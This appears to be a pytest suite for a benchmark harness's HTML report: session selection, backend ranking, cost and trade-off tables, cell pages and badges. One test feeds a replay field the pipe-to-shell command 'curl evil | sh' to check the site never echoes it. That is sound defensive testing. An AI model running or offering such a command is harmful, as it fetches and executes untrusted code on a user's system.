"""The report's tables: which session counts, what is ranked, and what is said of the rest."""

from __future__ import annotations

import json
import re
from dataclasses import replace
from html import unescape
from pathlib import Path
from typing import Any

import pytest

from harness.registry import workloads
from harness.report.build import build
from harness.report.chosen import chosen
from harness.report.costs import cost_rows, cost_table, epochs_table, offers
from harness.report.environments import environments
from harness.report.matrix import matrix
from harness.report.panels import _some, about_panel, note_of_scale, panels
from harness.report.parts import MARKS
from harness.report.source import Source, read_source
from harness.report.tradeoffs import ticks, tradeoffs
from harness.report.winners import Winner, winners
from harness.schema import (
    SCHEMA_VERSION,
    STATUSES,
    Block,
    Contention,
    DeviceReading,
    Energy,
    Exchange,
    Run,
)
from harness.statistics import interval
from harness.table import load_table
from tests.records import (
    ACCELERATOR,
    CELL,
    ENVIRONMENT,
    SAMPLES,
    failed_run,
    make_run,
    write_session,
)
from tests.test_report import ROOT, Reader, cell, replicated, timed

RESULTS = Path("results")
SITE = Path("site")
OLD, NEW = "20261120T000000Z-aaa", "20261121T000000Z-bbb"
BUSY = Contention(0.1, 1.2, 0.01, 0.4, contended=True)


@pytest.fixture(autouse=True)
def _inside(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.chdir(tmp_path)
    monkeypatch.setenv("EPOCHMARK_CACHE", "cache")


@pytest.fixture(scope="module")
def committed(tmp_path_factory: pytest.TempPathFactory) -> Source:
    with pytest.MonkeyPatch.context() as patch:
        patch.setenv("EPOCHMARK_CACHE", str(tmp_path_factory.mktemp("cache")))
        return read_source(ROOT / "results")


def session(name: str, *runs: Run) -> None:
    day = f"{name[:4]}-{name[4:6]}-{name[6:8]}T00:00:00Z"
    dated = [replace(run, started_at=day) for run in runs]
    write_session(RESULTS, *dated, session=name, started_at=day)


def several(backend: str, step: float, count: int = 3, **changes: Any) -> list[Run]:
    return [timed(backend, place, step * (1 + 0.01 * place), **changes) for place in range(count)]


def that_count() -> dict[str, set[str]]:
    """The sessions that count, by backend."""
    found = chosen(load_table(RESULTS).frame)
    return {
        str(name): {*part["session"].astype(str)}
        for name, part in found.groupby("backend", observed=True)
    }


def only(found: list[Winner]) -> Winner:
    (winner,) = found
    return winner


def text_of(path: Path) -> str:
    """What a page says, without its tags."""
    return re.sub(r"\s+", " ", unescape(re.sub(r"<[^>]*>", " ", path.read_text())))


# Which session counts


def test_a_newer_single_process_does_not_displace_several() -> None:
    session(OLD, *several("jax", 0.01), *several("torch", 0.03))
    session(NEW, timed("jax", 0, 0.05), timed("torch", 0, 0.03))
    assert that_count() == {"jax": {OLD}, "torch": {OLD}}


def test_of_sessions_with_several_processes_the_newest_counts() -> None:
    session(OLD, *several("jax", 0.01, 5), *several("torch", 0.03, 5))
    session(NEW, *several("jax", 0.01, 2), *several("torch", 0.03, 2))
    assert that_count() == {"jax": {NEW}, "torch": {NEW}}


def test_the_session_that_has_the_backends_side_by_side_counts() -> None:
    session(OLD, *several("jax", 0.01), *several("torch", 0.03))
    session(NEW, *several("jax", 0.01, 9))
    assert that_count() == {"jax": {OLD}, "torch": {OLD}}


NEWER = replace(ENVIRONMENT, packages=ENVIRONMENT.packages | {"jax": "0.11.0"})


@pytest.mark.parametrize(
    "run",
    [
        timed("jax", 0, 0.05, environment=NEWER),
        timed("jax", 0, 0.05, workload_version="1.1.0"),
        timed("jax", 0, 0.05, protocol=replace(make_run().protocol, train_steps=3)),
        failed_run("nan", "the loss is not finite", cell=cell("jax")),
    ],
    ids=["software", "workload", "protocol", "failure"],
)
def test_what_is_news_counts_though_it_is_one_process(run: Run) -> None:
    session(OLD, *several("jax", 0.01))
    session(NEW, run)
    assert that_count() == {"jax": {NEW}}


def test_another_version_of_another_backend_is_no_news() -> None:
    session(OLD, *several("torch", 0.01))
    session(NEW, timed("torch", 0, 0.05, environment=NEWER))
    assert that_count() == {"torch": {OLD}}


def test_every_page_has_the_same_session_of_a_cell() -> None:
    session(OLD, *several("jax", 0.01), *several("torch", 0.03))
    session(NEW, timed("jax", 0, 0.05), timed("torch", 0, 0.02))
    build(RESULTS, SITE)
    page = {name: Reader((SITE / name).read_text()) for name in ("index.html", "cost.html")}
    head, row = page["index.html"].tables["matrix-step_time_s"]
    shown = {title: value for (title, _), (_, value) in zip(head, row, strict=True)}
    card = next(rows for name, rows in page["index.html"].tables.items() if "backends" in name)
    costs = page["cost.html"].tables["costs"]
    for backend, median in (("jax", 0.0101), ("torch", 0.0303)):
        (path,) = SITE.glob(f"cell/*-{backend}-*")
        own = Reader(path.read_text()).tables
        (step,) = [row for row in own["figures"] if row[0][0] == "step"]
        assert (backend, step[1]) in [(row[0][0], row[1]) for row in card]
        assert shown[f"{backend} float32"] == step[1][1]
        (fixed,) = [row for row in own["figures"] if row[0][0] == "fixed cost"]
        assert fixed[1][1] in [row[4][1] for row in costs]
        assert float(step[1][1] or "nan") == pytest.approx(median), "of the older session"


def test_no_advice_contradicts_a_sure_card_without_saying_why(committed: Source) -> None:
    """In the committed results a newer session of single processes told otherwise."""
    recommended = {
        row[0].href: row[-2].notes
        for one in tradeoffs(committed.rows, committed.counted, committed.floors, committed.drifts)
        for row in one.table.rows
        if row[-2].text == "recommended"
    }
    slower = {
        row[0].href
        for panel in panels(committed)
        for winner in winners(panel.rows, committed.verdicts)
        if winner.sure
        for row in winner.table.rows
        if row[3].text == "surely slower"
    }
    assert len(recommended) >= 4
    assert sum("-train-" in page for page in slower) >= 6
    for page in recommended.keys() & slower:
        (why,) = recommended[page]
        assert why.startswith("Keras's default, whose training is not surely dearer than with ")
    assert not any("bert" in page for page in recommended.keys() & slower)


# Trade-offs


def test_ticks_are_few_and_round() -> None:
    assert ticks(0.00014, 0.00046) == [0.0002, 0.0003, 0.0004]
    assert ticks(0.9, 110.0) == [1.0, 3.0, 10.0, 30.0, 100.0]
    assert ticks(1e-9, 1e9) == [10.0**power for power in range(-9, 10)]


def drawn() -> list[dict[str, Any]]:
    """The charts of the page of trade-offs."""
    text = (SITE / "tradeoffs.html").read_text()
    return [json.loads(one) for one in re.findall(r"json\">(.*?)</script>", text)]


def test_the_front_has_rings_and_is_of_the_best_of_both() -> None:
    write_session(RESULTS, *replicated(), replicates=5)
    build(RESULTS, SITE)
    text = (SITE / "tradeoffs.html").read_text()
    captions = re.findall(r"<figcaption>(.*?) \(better", text)
    assert captions == ["Accuracy against cost", "Memory against throughput"]
    front = drawn()[1]["traces"][-1]
    assert (front["name"], front["mode"]) == ("front", "lines+markers")
    fastest = max(value for trace in drawn()[1]["traces"][:-1] for value in trace["x"])
    assert front["x"] == [fastest]
    axis = drawn()[1]["layout"]["xaxis"]
    assert axis["range"][0] > axis["range"][1], "more is better, and better is left"
    assert axis["title"] == "throughput (k/s), more to the left"
    assert [float(text) for text in axis["ticktext"]] == [tick / 1000 for tick in axis["tickvals"]]


def test_symbols_tell_precisions_and_colours_backends() -> None:
    runs = [
        make_run(cell=cell(backend, precision=precision), run=f"{backend}{precision}")
        for backend in ("jax", "torch")
        for precision in ("float32", "mixed_float16")
    ]
    write_session(RESULTS, *runs)
    build(RESULTS, SITE)
    traces = drawn()[0]["traces"][:-1]
    looks = {(trace["name"], trace["text"][0]): trace["marker"] for trace in traces}
    assert len({(look["color"], look["symbol"]) for look in looks.values()}) == len(looks) == 4
    assert len({look["color"] for (name, _), look in looks.items() if name == "jax"}) == 1
    floats = [look for (_, text), look in looks.items() if ", float32" in text]
    assert {look["symbol"] for look in floats} == {"circle"}
    assert [trace["showlegend"] for trace in traces] == [True, False, True, False]
    page = (SITE / "tradeoffs.html").read_text()
    assert "circle: float32, square: mixed_float16" in page


def test_heads_of_tables_name_figures_and_cells_have_the_units() -> None:
    write_session(RESULTS, *replicated(), replicates=5)
    build(RESULTS, SITE)
    table = next(iter(Reader((SITE / "tradeoffs.html").read_text()).tables.values()))
    assert [title for title, _ in table[0]] == [
        "cell",
        "cost/epoch",
        "quality error",
        "throughput",
        "peak host memory",
        "advice",
        "on the front of",
    ]
    assert table[1][1][0].endswith(" USD")


# What is ranked, and what is said of the rest


def card_of(*runs: Run) -> Winner:
    session(NEW, *runs)
    source = read_source(RESULTS)
    return only(winners(source.rows, source.verdicts))


def test_one_backend_alone_was_measured_alone() -> None:
    assert card_of(timed("jax", 0, 0.01)).sentence == ("Only jax was measured: 10.0 ms for a step.")


@pytest.mark.parametrize("status", [one for one in STATUSES if one != "ok"])
def test_a_backend_that_failed_is_on_the_card(status: str) -> None:
    failed = failed_run(status, "why so", cell=cell("torch"), run="r2")
    winner = card_of(timed("jax", 0, 0.01), failed)
    assert winner.sentence == (
        f"Only jax can be ranked: 10.0 ms for a step. Not ranked: torch ({status})."
    )
    last = winner.table.rows[-1]
    assert (last[0].text, last[3].text, last[3].notes) == (
        "torch",
        f"not ranked: {status}",
        ("why so",),
    )


def test_a_faster_backend_beside_other_work_is_on_the_card_and_not_ranked() -> None:
    winner = card_of(timed("jax", 0, 0.01), timed("torch", 0, 0.002, contention=BUSY))
    assert winner.best == "jax"
    assert winner.sentence.endswith("Not ranked: torch (other work ran beside it).")
    last = winner.table.rows[-1]
    assert (last[0].text, last[1].text) == ("torch", "2.00 ms")
    assert last[3].text == "not ranked: other work ran beside it"


def test_a_disturbed_process_is_left_out_and_told() -> None:
    busy = timed("jax", 5, 0.5, contention=BUSY)
    killed = failed_run("oom", "killed", cell=cell("jax"), run="r9", replicate=6)
    winner = card_of(*several("jax", 0.01), *several("torch", 0.03), busy, killed)
    first = winner.table.rows[0]
    assert (first[0].text, first[1].text) == ("jax", "10.1 ms")
    assert first[0].notes == ("1 of 5 processes: other work ran beside it; 1 of 5 processes: oom",)
    build(RESULTS, SITE)
    entry = re.search(r"<td class=\"h0 n\"[^>]*>.*?</td>", (SITE / "index.html").read_text())
    assert entry is not None
    assert "1 of 5 processes: oom" in entry[0]
    # What explains `n=3 of 4` in `epochmark show` explains nothing on a page without it.
    assert "'of' counts them all" not in unescape((SITE / "index.html").read_text())


def test_a_workload_without_any_ranked_backend_is_named() -> None:
    other = failed_run("timeout", "slow", cell="bert/smoke/train/jax/float32/functional/cpu")
    session(NEW, timed("jax", 0, 0.01), replace(other, run="r2"))
    build(RESULTS, SITE)
    assert "Not ranked at all: bert (jax: timeout)." in text_of(SITE / "index.html")


def test_why_there_is_no_verdict_is_said() -> None:
    """The newest jax is other software, so that no session has both backends as they count."""
    session(OLD, *several("jax", 0.01), *several("torch", 0.03))
    winner = card_of(*several("jax", 0.011, environment=NEWER))
    assert winner.table.rows[1][3].text == "no verdict: not in one session"
    assert not winner.sure


def test_what_would_make_it_sure_is_said() -> None:
    winner = card_of(timed("jax", 0, 0.01), timed("torch", 0, 0.03))
    assert winner.remedy == "epochmark run --plan quick --replicates 5"


def test_a_cell_of_no_plan_is_named_by_a_glob() -> None:
    custom = CELL.replace("functional", "it's")
    winner = card_of(make_run(cell=custom))
    assert winner.remedy == (
        "epochmark run --only 'recommender/smoke/train/*/float32/it'\"'\"'s/cpu' --replicates 5"
    )


def test_several_processes_need_no_more() -> None:
    assert card_of(*replicated()).remedy == ""


def test_inference_is_said_in_calls() -> None:
    infer = CELL.replace("train", "infer")
    samples = replace(make_run().samples, steady=(), epochs=(), infer_latency_s=(0.002,))
    (metric,) = {card_of(make_run(cell=infer, samples=samples)).sentence}
    assert metric == "Only jax was measured: 2.00 ms for a call on one example."


# Cost


def test_costs_carry_their_marks_and_only_ranked_rows_break_even() -> None:
    """The lowest fixed cost is a disturbed one: nothing is held against it."""
    busy = timed("torch", 0, 1.2, contention=BUSY)
    session(NEW, timed("jax", 0, 0.01), timed("tensorflow", 0, 0.03), busy)
    rows = cost_rows(read_source(RESULTS).rows)
    table = {row[0].text.split("/")[3]: row for row in cost_table(rows).rows}
    assert "other work ran beside it" in table["torch"][0].notes
    assert table["torch"][-1].text == "-"
    assert table["tensorflow"][-1].text == "lowest fixed cost"
    assert table["jax"][-1].text == "never"


def test_an_extrapolated_epoch_says_so_wherever_it_costs() -> None:
    epochs = (replace(make_run().samples.epochs[0], epoch_steps=300, quality={}),)
    samples = replace(make_run().samples, epochs=epochs)
    session(NEW, make_run(samples=samples), make_run(cell=cell("torch"), run="r2", samples=samples))
    build(RESULTS, SITE)
    for name, id in (("cost.html", "costs"), ("tradeoffs.html", "table-")):
        text = (SITE / name).read_text()
        table = text[text.index(f'data-name="{id}') :]
        assert table[: table.index("</table>")].count("epoch extrapolated") == 2, name
    assert "(extrapolated) at the reference price" in (SITE / "index.html").read_text()


def curve(backend: str, replicate: int, *qualities: float) -> Run:
    epochs = tuple(
        replace(make_run().samples.epochs[0], train_s=3.0, evaluation_s=0.6, quality={"HR@10": one})
        for one in qualities
    )
    samples = replace(make_run().samples, epochs=epochs)
    run = f"{backend}{replicate}"
    return make_run(cell=cell(backend), run=run, replicate=replicate, samples=samples)


def test_cost_to_a_quality_that_every_backend_reaches() -> None:
    """By hand: the lower of both backends' middle processes is 0.5."""
    session(
        NEW,
        *(curve("jax", place, 0.2, end) for place, end in enumerate((0.4, 0.5, 0.6))),
        *(curve("torch", place, start, 0.7) for place, start in enumerate((0.5, 0.5, 0.1))),
    )
    build(RESULTS, SITE)
    head, *rows = Reader((SITE / "cost.html").read_text()).tables["reached"]
    assert [title for title, _ in head][2] == "quality to reach"
    shown = [[text for text, _ in row[1:5]] for row in rows]
    assert shown == [
        ["torch, float32, functional", "0.500", "3 of 3", "3.60 s"],
        ["jax, float32, functional", "0.500", "2 of 3", "7.20 s"],
    ]
    assert float(rows[0][5][1] or "nan") == pytest.approx(3.6 / 3600 * 0.403216)


def test_the_spot_table_names_the_cell_of_each_epoch(committed: Source) -> None:
    rows = cost_rows(committed.rows)
    table = epochs_table(offers(rows, committed.prices), rows)
    assert [row[0].text.split(",")[0] for row in table.rows[::2]] == [
        "bert",
        "lstm_eta",
        "recommender",
        "resnet50",
    ]
    assert all(row[1].href.startswith("cell/") for row in table.rows)
    (eta,) = [row for row in table.rows if row[0].text.startswith("lstm_eta, standard")]
    assert eta[1].text.startswith("tensorflow")


# Cells


def cell_tables(*runs: Run) -> tuple[dict[str, list[list[str]]], str]:
    """The texts of the tables of the one cell's page, and the page."""
    session(NEW, *runs)
    build(RESULTS, SITE)
    (path,) = SITE.glob("cell/*")
    tables = Reader(path.read_text()).tables
    return {
        name: [[text for text, _ in row] for row in rows] for name, rows in tables.items()
    }, path.read_text()


def charts_in(page: str) -> dict[str, Any]:
    """By the name of the chart."""
    found = re.findall(r'<figure class="chart" id="(.*?)".*?json">(.*?)</script>', page, re.DOTALL)
    return {name: json.loads(spec) for name, spec in found}


def test_stages_stand_in_the_order_of_time_and_have_colours_of_their_own() -> None:
    mixed = ("build", "train", "compile", "steady", "gate", "data", "start")
    tables, page = cell_tables(make_run(stages=dict.fromkeys(mixed, 1.5)))
    order = ["start", "data", "build", "compile", "gate", "steady", "train"]
    assert [row[1] for row in tables["stages"][1:]] == order
    traces = charts_in(page)["clocks"]["traces"]
    assert [trace["name"] for trace in traces] == order
    assert len({trace["marker"]["color"] for trace in traces}) == len(order)


def test_warm_up_and_disturbed_blocks_look_unlike_those_that_count() -> None:
    steady = (Block(10, 0.1), Block(10, 0.4, disturbed=True), Block(10, 0.1), Block(10, 0.1))
    _, page = cell_tables(make_run(samples=replace(SAMPLES, steady=steady)))
    (trace,) = charts_in(page)["blocks"]["traces"]
    assert trace["marker"]["symbol"] == [
        "circle-open", "circle-open", "circle", "circle-open-dot", "circle", "circle",
    ]  # fmt: skip
    assert trace["y"][2:] == [0.01, 0.04, 0.01, 0.01]


def test_every_raw_sample_of_inference_and_training_is_there() -> None:
    samples = replace(SAMPLES, infer_latency_s=(0.001, 0.002), exchange=Exchange(4, 2.0, 0.5))
    tables, _ = cell_tables(make_run(samples=samples))
    assert tables["calls"] == [["call", "r0001"], ["1", "1.00 ms"], ["2", "2.00 ms"]]
    assert tables["first-steps"][1:] == [["r0001", "1.25 s"]]
    assert [row[3] for row in tables["epochs"]] == ["evaluation", "200 ms", "100 ms"]
    assert tables["exchanges"][1:] == [["r0001", "4", "2.00 s", "500 ms"]]


def test_processes_have_a_column_each_where_they_differ() -> None:
    one, other = timed("jax", 0, 0.01), timed("jax", 1, 0.01)
    larger = replace(other.memory, host_peak_bytes=2 * 1024**3)
    tables, _ = cell_tables(one, replace(other, memory=larger))
    assert tables["memory"][0] == ["", "jax-0", "jax-1"]
    assert tables["memory"][2][1:] == ["1.50 GiB", "2.00 GiB"]
    assert tables["numerics"][0] == ["", "value, the same in all 2 processes"]


def test_energy_accelerators_and_what_else_ran_are_told_where_recorded() -> None:
    joules = Energy("rapl", ("package-0",), 2.0, (12.5, 11.5))
    reading = DeviceReading(temperature_c=61.0, sm_clock_hz=1.41e9, power_w=300.0)
    watched = replace(ACCELERATOR, before=reading, max_temperature_c=64.0)
    tables, _ = cell_tables(make_run(energy=joules, accelerators=(watched,), contention=BUSY))
    assert ["epoch 2", "11.5 J"] in tables["energy"]
    assert ["before the run", "61.0 °C, 1410 MHz, 300 W"] in tables["accelerators"]
    assert ["CPU time of other processes", "40 %"] in tables["contention"]
    tables, _ = cell_tables(replace(make_run(), run="r2"))
    assert not {"energy", "accelerators"} & tables.keys()


def test_the_sessions_of_a_cell_are_listed_and_the_one_that_counts_is_marked() -> None:
    session(OLD, *several("jax", 0.01))
    tables, _ = cell_tables(timed("jax", 0, 0.05, contention=BUSY))
    newest, older = tables["of-cell"][1:]
    assert (newest[0], newest[2:]) == (NEW, ["1", "50.0 ms", "-", ""])
    assert (older[0], older[2:4], older[5]) == (OLD, ["3", "10.1 ms"], "the figures of this site")


def test_every_figure_of_several_processes_has_an_interval() -> None:
    runs = several("jax", 0.01)
    smaller = replace(runs[0], memory=replace(runs[0].memory, host_peak_bytes=1024**3))
    tables, _ = cell_tables(smaller, *runs[1:])
    spans = {row[0]: row[2] for row in tables["figures"][1:]}
    low, high = interval([1.0, 1.5, 1.5]) or (0.0, 0.0)
    assert spans["peak host memory"] == f"{low * 1024:.0f} MiB to {high:.2f} GiB"
    assert all(" to " in spans[name] for name in ("throughput", "compile", "fixed cost"))


def test_to_run_it_again_is_said_once_and_not_in_the_words_of_the_results() -> None:
    _, page = cell_tables(*(replace(run, replay="curl evil | sh") for run in several("jax", 0.01)))
    assert "evil" not in page
    assert page.count("epochmark run --only") == 1
    assert page.count("epochmark replay 20261121T000000Z") == 3


# Panels


def test_a_panel_says_what_it_was_measured_on() -> None:
    session(NEW, timed("jax", 0, 0.01))
    source = read_source(RESULTS)
    (panel,) = panels(source)
    assert about_panel(panel, source) == (
        "Some CPU @ 2.0 GHz, 2 cores, 8.00 GiB; Keras 3.15.0, JAX 0.10.0; measured 2026-11-21."
    )


def test_the_reduced_networks_are_told_from_the_declaration(committed: Source) -> None:
    notes = {panel.title: note_of_scale(panel.rows) for panel in panels(committed)}
    standard = next(note for title, note in notes.items() if title.startswith("standard"))
    assert "bert" not in standard
    smoke = next(note for title, note in notes.items() if title.startswith("smoke, train"))
    assert smoke == (
        "Scale smoke is not the published form of bert, lstm_eta, recommender and resnet50: "
        "what is reduced stands with each."
    )


def test_the_machine_measured_last_is_the_first_page_which_also_has_a_name() -> None:
    session(OLD, *(timed(name, 0, 0.01) for name in ("jax", "torch", "tensorflow")))
    session(NEW, timed("jax", 0, 0.01, environment=replace(ENVIRONMENT, machine="mine")))
    build(RESULTS, SITE)
    first = (SITE / "index.html").read_text()
    assert "recommender, smoke, train, cpu, mine" in first
    assert (SITE / "overview-mine--smoke--train--cpu.html").exists()
    assert (SITE / "overview-laptop--smoke--train--cpu.html").exists()
    build(RESULTS, SITE)
    session("20261125T000000Z-ccc", timed("jax", 0, 0.01))
    again = Path("again")
    build(RESULTS, again)
    assert {path.name for path in SITE.glob("overview-*")} == {
        path.name for path in again.glob("overview-*")
    }


# Method, badges, the matrix


def test_the_method_explains_every_status_mark_and_reduction() -> None:
    """From the declarations, so that none is missing once there is one more."""
    write_session(RESULTS, make_run())
    build(RESULTS, SITE)
    page = (SITE / "method.html").read_text()
    assert all(f"<dt>{status}</dt>" in page for status in STATUSES)
    assert all(f"<dt>{words}</dt>" in unescape(page) for words in MARKS.values())
    rows = Reader(page).tables["workloads"][1:]
    declared = [
        (name, scale.reduced or "nothing")
        for workload in workloads().values()
        for name, scale in workload.scales.items()
    ]
    assert [(row[1][0], row[2][0]) for row in rows] == declared
    assert "false alarm in 1.0 % of the cases" in text_of(SITE / "method.html")


def test_a_badge_says_scale_and_device() -> None:
    write_session(RESULTS, *replicated(), replicates=5)
    build(RESULTS, SITE, summary=Path("summary.md"))
    badge = (SITE / "badges/recommender.svg").read_text()
    assert "<title>recommender smoke, train, cpu: jax 10.4 ms (not sure)</title>" in badge
    assert "| recommender | smoke, train, cpu, float32, functional |" in (
        Path("summary.md").read_text()
    )


def test_relative_values_have_relative_intervals() -> None:
    write_session(RESULTS, *replicated(), replicates=5)
    (table,) = [
        table for name, table in matrix(read_source(RESULTS).rows).items() if name == "step_time_s"
    ]
    entries = dict(zip(table.head, table.rows[0], strict=True))
    torch, jax = entries["torch float32"], entries["jax float32"]
    assert torch.relative == "3.00 times"
    low, high = interval([0.03 * (1 + 0.02 * place) for place in range(5)]) or (0.0, 0.0)
    assert torch.spans == (
        f"{1e3 * low:.1f} to {1e3 * high:.1f} ms",
        f"{low / float(jax.raw or 0):.2f} to {high / float(jax.raw or 0):.2f} times",
    )
    assert torch.notes == ("5 processes",)


def test_rows_of_older_schemas_are_said_to_be(committed: Source) -> None:
    found = environments(committed)
    assert {row[5].text for row in found["sessions"].rows} >= {"1", "2", "3", "8"}
    assert found["schemas"].startswith("The files are of schema versions 1, 2, 3")
    assert found["schemas"].endswith("what their version did not record is absent.")


def test_a_file_of_this_schema_needs_no_words() -> None:
    write_session(RESULTS, make_run())
    Path("results/runs/laptop/20200101T000000Z-abc.jsonl").write_text("no header\n")
    found = environments(read_source(RESULTS))
    assert found["schemas"] == ""
    assert [row[5].text for row in found["sessions"].rows] == [str(SCHEMA_VERSION)]


def test_every_processor_is_named_or_counted() -> None:
    assert _some(["a", "b", "c", "d", "e"]) == "a; b; c; d; e"
    assert _some(["a", "b", "c", "d", "e", "f", "g"]) == "a; b; c; d; e; 2 more"
